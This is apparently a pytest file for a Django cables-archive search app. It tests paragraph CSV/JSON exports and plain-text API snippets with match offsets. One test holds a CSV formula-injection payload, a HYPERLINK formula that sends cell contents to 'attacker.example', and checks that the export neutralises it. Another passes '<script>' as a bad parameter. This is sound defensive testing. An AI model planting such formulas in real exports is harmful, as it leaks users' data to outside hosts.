"""The paragraph export (`rows=paragraphs` on the CSV and JSON exports) and the API's snippets
as plain text with match offsets."""

import csv
import html
import io
import json
import re

import pytest
from django.db import connection, transaction
from django.urls import reverse

from cables.models import Cable, Paragraph
from cables.search import api, get_backend
from cables.search.date_order import ordered
from cables.search.exhaustive import exhaustive_ranking
from cables.search.index_store import publish_on_commit
from cables.search.query import parse_query
from tests.reading_corpus import has

pytestmark = pytest.mark.django_db

CSV_URL = reverse("cables:api-export-csv")
JSON_URL = reverse("cables:api-export-json")


def streamed(response) -> str:
    assert response.status_code == 200, response.content
    return b"".join(response.streaming_content).decode()


def exported(client, params: dict) -> list[tuple[str, int]]:
    response = client.get(JSON_URL, {**params, "rows": "paragraphs"})
    return [(row["reference_id"], row["paragraph"]) for row in json.loads(streamed(response))]


def expected_rows(cable_ids: list[int], keep) -> list[tuple[str, int]]:
    """Each cable's paragraphs that `keep(paragraph)` keeps, by number, in the cables' order:
    read from the whole Paragraph table, no chunk and no index involved."""
    by_cable: dict[int, list[Paragraph]] = {}
    for paragraph in Paragraph.objects.select_related("cable").order_by("number"):
        by_cable.setdefault(paragraph.cable_id, []).append(paragraph)
    return [
        (p.cable.reference_id, p.number)
        for cable_id in cable_ids
        for p in by_cable.get(cable_id, [])
        if keep(p)
    ]


def newest_first(cable_ids) -> list[int]:
    return list(
        ordered(Cable.objects.filter(id__in=cable_ids), "-created").values_list("id", flat=True)
    )


@pytest.mark.parametrize(
    ("query", "paragraph_matches"),
    [
        ("Gulnora", has("Gulnora")),
        ("Karimova Tashkent", lambda text: has("Karimova")(text) and has("Tashkent")(text)),
        ("Kazakh*", has(r"Kazakh\w*")),
        ("Gulnora OR Nazarbayev", lambda text: has("Gulnora")(text) or has("Nazarbayev")(text)),
    ],
)
def test_the_paragraph_rows_are_every_paragraph_holding_the_words_newest_cable_first(
    client, corpus, query, paragraph_matches
):
    # The reference: a whole-word regex over every row of the Paragraph table.
    rows = exported(client, {"q": query})
    matching = {p.cable_id for p in Paragraph.objects.all() if paragraph_matches(p.text)}
    assert rows == expected_rows(newest_first(matching), lambda p: paragraph_matches(p.text))
    assert len({ref for ref, _ in rows}) > 1


@pytest.mark.parametrize(
    "query", ["election", '"prime minister"', "elect*", "oil OR gas", "election -fraud"]
)
@pytest.mark.parametrize("sort", ["created", "-released", "relevance"])
def test_the_paragraph_rows_equal_the_databases_match_over_the_whole_archive(
    client, corpus, monkeypatch, query, sort
):
    # Chunks of 7 cables: many keyset steps. The reference: every paragraph the database's
    # full-text index matches in the whole archive, of the cables of the exhaustive ranking
    # (relevance exports in the newest-first order, as the cable export does).
    monkeypatch.setattr(api, "EXPORT_CHUNK", 7)
    rows = exported(client, {"q": query, "sort": sort})
    matched = {pid for _, pid in get_backend().matched_paragraphs(parse_query(query).text)}
    ranking = exhaustive_ranking(query, {}, "-created" if sort == "relevance" else sort)
    assert rows == expected_rows(ranking, lambda p: p.id in matched)
    assert len(rows) > len({ref for ref, _ in rows}) > 1


def test_without_text_every_paragraph_of_the_result_set_is_a_row(client, corpus, monkeypatch):
    monkeypatch.setattr(api, "EXPORT_CHUNK", 3)
    rows = exported(client, {"q": "origin:tashkent", "sort": "created"})
    tashkent = ordered(Cable.objects.filter(origin="Embassy Tashkent"), "created")
    ids = list(tashkent.values_list("id", flat=True))
    assert rows == expected_rows(ids, lambda p: True)
    assert len(ids) > 3


def test_a_facet_narrows_the_paragraph_rows(client, corpus):
    rows = exported(client, {"q": "election", "origin": "Embassy Dushanbe"})
    assert rows and {ref for ref, _ in rows} <= {
        c.reference_id for c in Cable.objects.filter(origin="Embassy Dushanbe")
    }
    assert rows == [
        row for row in exported(client, {"q": "election"}) if row[0] in {r for r, _ in rows}
    ]


def test_the_csv_has_the_reference_number_permalink_and_text(client, corpus):
    response = client.get(CSV_URL, {"q": "Gulnora", "rows": "paragraphs"})
    assert response["Content-Disposition"] == 'attachment; filename="paragraphs.csv"'
    lines = list(csv.reader(io.StringIO(streamed(response))))
    assert lines[0] == ["reference_id", "paragraph", "permalink", "text"]
    by_key = {(row[0], int(row[1])): row for row in lines[1:]}
    paragraph = Paragraph.objects.get(cable__reference_id="05TASHKENT284", number=2)
    assert by_key[("05TASHKENT284", 2)] == [
        "05TASHKENT284",
        "2",
        "http://testserver/cable/05TASHKENT284/#par2",
        paragraph.text,
    ]
    assert [key for key in by_key] == exported(client, {"q": "Gulnora"})


@pytest.mark.parametrize(
    "text",
    [
        # A bullet of 03BRASILIA3459's own text, as a paragraph of its own.
        "-- There is substantial support for an FTAA within the GOB.",
        '=HYPERLINK("http://attacker.example/?"&A1,"FTAA")',
        "+FTAA",
        "@SUM(FTAA)",
    ],
)
def test_a_paragraph_starting_like_a_formula_is_neutralised_in_the_csv_only(client, corpus, text):
    cable = Cable.objects.get(reference_id="03BRASILIA3459")
    paragraph = Paragraph.objects.create(cable=cable, number=99, text=text)
    get_backend().index_cables([cable.id])
    params = {"q": "FTAA", "rows": "paragraphs", "origin": cable.origin}
    lines = list(csv.reader(io.StringIO(streamed(client.get(CSV_URL, params)))))
    (cell,) = [row[3] for row in lines[1:] if row[:2] == ["03BRASILIA3459", "99"]]
    assert cell == "'" + paragraph.text
    rows = json.loads(streamed(client.get(JSON_URL, params)))
    (same,) = [row["text"] for row in rows if row["paragraph"] == 99]
    assert same == paragraph.text


@pytest.mark.parametrize("url", [CSV_URL, JSON_URL])
@pytest.mark.parametrize("value", ["paragraph", "PARAGRAPHS", "<script>", ""])
def test_a_bad_rows_value_is_a_400_with_a_message(client, corpus, url, value):
    response = client.get(url, {"q": "election", "rows": value})
    if value == "":
        # Empty is the default: one row per cable.
        assert "paragraph" not in streamed(response).splitlines()[0]
        return
    assert response.status_code == 400
    message = response.json()["error"]
    assert "rows must be cables" in message and "paragraphs" in message
    assert "<script>" not in response.content.decode()


def test_the_cable_export_sorted_by_relevance_lists_the_newest_first(client, corpus):
    response = client.get(JSON_URL, {"q": "election", "sort": "relevance"})
    refs = [row["reference_id"] for row in json.loads(streamed(response))]
    ids = exhaustive_ranking("election", {}, "-created")
    by_id = dict(Cable.objects.values_list("id", "reference_id"))
    assert refs == [by_id[i] for i in ids] and len(refs) > 2


def plain(snippet_html: str) -> str:
    return html.unescape(re.sub(r"</?mark>", "", snippet_html))


@pytest.mark.parametrize(
    ("query", "word"),
    [
        ("Gulnora", r"gulnora"),
        ("Karimova", r"karimova"),
        ("Kazakh*", r"kazakh\w*"),
        # FTS5 marks a phrase as one span, PostgreSQL each of its words.
        ('"prime minister"', r"prime(\W+ministers?)?|ministers?"),
        ("election", r"elect\w*"),  # the stem: elections, elected
        ("government", r"govern\w*"),
    ],
)
def test_the_api_snippets_come_as_plain_text_with_the_offsets_of_the_matched_words(
    client, corpus, query, word
):
    data = client.get(reverse("cables:api-cable-list"), {"q": query}).json()
    paragraphs = [p for hit in data["results"] for p in hit["paragraphs"]]
    assert paragraphs
    for paragraph in paragraphs:
        text, matches = paragraph["snippet_text"], paragraph["matches"]
        assert text == plain(paragraph["snippet"])
        assert "<mark>" not in text and "&#x27;" not in text
        assert len(matches) == paragraph["snippet"].count("<mark>") > 0
        assert matches == sorted(matches)
        for start, end in matches:
            assert 0 <= start < end <= len(text)
            # PostgreSQL marks its parser's whole token: "Kazakhstan.XXXXXXXXXXXX" (a host).
            assert re.match(word, text[start:end], re.I), (text[start:end], text)
            # A whole word: no letter just before or after it.
            assert not text[start - 1 : start].isalnum() and not text[end : end + 1].isalnum()


def test_snippet_text_unescapes_what_the_html_escapes(client, corpus):
    # Karimova's snippets carry apostrophes ("Karimova's"), escaped as &#x27; in the HTML.
    data = client.get(reverse("cables:api-cable-list"), {"q": "Karimova"}).json()
    paragraphs = [p for hit in data["results"] for p in hit["paragraphs"]]
    escaped = [p for p in paragraphs if "&#x27;" in p["snippet"] or "&amp;" in p["snippet"]]
    assert escaped
    for paragraph in escaped:
        assert "'" in paragraph["snippet_text"] or "&" in paragraph["snippet_text"]
        for start, end in paragraph["matches"]:
            assert paragraph["snippet_text"][start:end].lower() == "karimova"


def test_markup_and_entities_in_the_cable_text_stay_text_in_snippet_text(client, corpus):
    # Cable text that looks like the snippet's own markup is escaped in `snippet` and comes
    # back exactly in `snippet_text`; only the index's matches are offsets.
    cable = Cable.objects.get(reference_id="03BRASILIA3459")
    text = "Itamaraty's <mark>FTAA</mark> &amp; \"FTAA\" talks &lt; Mercosur's & more."
    with transaction.atomic():  # a writer's own transaction: published when it ends
        Paragraph.objects.create(cable=cable, number=99, text=text)
        get_backend().index_cables([cable.id])
        publish_on_commit([cable.id])  # as ingest does
    data = client.get(reverse("cables:api-cable-list"), {"q": "FTAA Itamaraty"}).json()
    (paragraph,) = [
        p
        for hit in data["results"]
        for p in hit["paragraphs"]
        if hit["reference_id"] == "03BRASILIA3459" and p["number"] == 99
    ]
    snippet_text = paragraph["snippet_text"]
    assert snippet_text == plain(paragraph["snippet"])
    assert '&amp; "FTAA" talks &lt; Mercosur\'s & more' in snippet_text
    if connection.vendor == "sqlite":
        # (PostgreSQL's ts_headline drops what its parser takes for an HTML tag.)
        assert snippet_text.strip("…") == text
    found = [snippet_text[start:end] for start, end in paragraph["matches"]]
    assert sorted(set(found)) == ["FTAA", "Itamaraty"]
    assert len(found) == 3
